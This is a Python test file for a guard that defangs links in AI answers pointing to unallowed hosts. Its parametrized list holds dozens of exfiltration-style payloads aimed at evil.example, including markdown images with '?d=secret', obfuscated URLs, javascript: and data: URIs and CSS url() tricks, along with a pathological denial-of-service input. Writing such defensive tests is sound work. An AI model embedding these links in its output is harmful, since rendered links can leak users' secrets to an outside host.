"""Links in answers: allowed, grounded, or shown as text."""

from __future__ import annotations

import pytest

from quarterdeck.policy.grounding import Ground
from quarterdeck.policy.guards.base import About, Ruling
from quarterdeck.policy.guards.chain import Chain, Link
from quarterdeck.policy.guards.links import Links

SAID = About(trusted=lambda: Ground(("Look at https://corp.example/minutes?id=7 please.",)))
CHAIN = Chain([Link(guard=Links(allow=("wiki.example", "*.wiki.example")), ruling=Ruling.REDACT)])

FOREIGN = [
    "![chart](https://evil.example/p.png?d=secret)",
    "[here](https://evil.example/secret)",
    "[here](<https://evil.example/a b>)",
    "[here](  //evil.example/x)",
    f"![here]({' ' * 40}//evil.example/secret)",
    "![here](\u00a0\u3000\ufeff//evil.example/secret)",
    f"[here][1]\n\n[1]:{' ' * 40}//evil.example/secret",
    "[here](&#104;ttps://evil.example/x)",
    r"[here](https:\/\/evil.example/x)",
    r"[here](\\evil.example\x)",
    "[here](https:evil.example/x)",
    "[here](javascript:alert(1))",
    "[here](data:text/html;base64,AAAA)",
    "[here](mailto:a@evil.example?body=secret)",
    "[here][1]\n\n[1]: https://evil.example/x 'title'",
    "[here][1]\n\n[1]:\n&#104;ttps://evil.example/x",
    "<https://evil.example/secret>",
    "<https:evil.example/secret>",
    "<javascript:alert(1)>",
    "See https://evil.example/secret.",
    "See www.evil.example/secret.",
    "看https://evil.example/机密。",
    '<img src="https://evil.example/x">',
    "<img src=//evil.example/x>",
    '<a title=">" href="&#104;ttps://evil.example/x">here</a>',
    '<p><img srcset="a.png 1x, https://evil.example/b.png 2x"></p>',
    '<div style="x"><td background="https://evil.example/x">',
    "<img style='background:url(https://evil.example/x)'>",
    '<p style="background: url( //evil.example/secret )">',
    "<li style=background:URL('//evil.example/secret')>",
    "https://corp.example@evil.example/",
    "https://wiki.example@evil.example/",
    "https://wiki.example.evil.example/",
    "https://corp.example/minutes?id=7&d=secret",
    "https://corp.example/minutes",
]


@pytest.mark.row("G6", part="links")
@pytest.mark.parametrize("text", FOREIGN)
async def test_what_leads_to_a_foreign_host_is_shown_as_text(text: str) -> None:
    checked = await CHAIN.check(text, SAID)

    assert checked.ruling is Ruling.REDACT
    assert "⟨ " in checked.text
    assert "://" not in checked.text
    assert "secret" not in checked.text
    assert (await CHAIN.check(checked.text, SAID)).text == checked.text


@pytest.mark.parametrize(
    "text",
    [
        "As you said, https://corp.example/minutes?id=7.",
        "[minutes](https://corp.example/minutes?id=7)",
        "It is on [our wiki](https://wiki.example/anything?q=1) and https://a.wiki.example/x.",
        "[next](#chapter-2), [other](other.md), [up](../index.html) and /path/to/it",
        "The ratio is 3:4, see note: a < b and c > d; x//y is a comment.",
        "VPN is set up in 5 minutes. [vpn-1][vpn-2]",
        "时间：10:30，地点：三楼。",
    ],
)
async def test_what_is_allowed_grounded_or_no_link_stays(text: str) -> None:
    checked = await CHAIN.check(text, SAID)

    assert checked.text == text
    assert checked.ruling is Ruling.ALLOW


async def test_the_host_is_shown_and_nothing_else() -> None:
    checked = await CHAIN.check("Look [here](https://evil.example/q?d=4111).", SAID)

    assert checked.text == "Look [here](⟨ evil[.]example ⟩)."


async def test_a_hostile_text_takes_no_more_than_linear_time() -> None:
    spaces = f"]({' ' * 100}" * 400 + f"]({' ' * 40_000}>"

    checked = await CHAIN.check("<img " * 4_000 + "](" * 20_000 + "a:" * 20_000 + spaces + "<a:" * 20_000, SAID)
    brackets = await CHAIN.check(f"www.evil.example{')' * 400_000}", SAID)

    assert len(checked.hits) < 10
    assert brackets.text == f"⟨ www[.]evil[.]example ⟩{')' * 400_000}"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("(see www.evil.example/a_(b)).", "(see ⟨ www[.]evil[.]example ⟩)."),
        ("(www.evil.example)", "(⟨ www[.]evil[.]example ⟩)"),
        ("www.evil.example/(a))!)", "⟨ www[.]evil[.]example ⟩)!)"),
    ],
)
async def test_a_bracket_behind_a_link_belongs_to_it_where_it_closes_one_of_its_own(text: str, shown: str) -> None:
    assert (await CHAIN.check(text, SAID)).text == shown
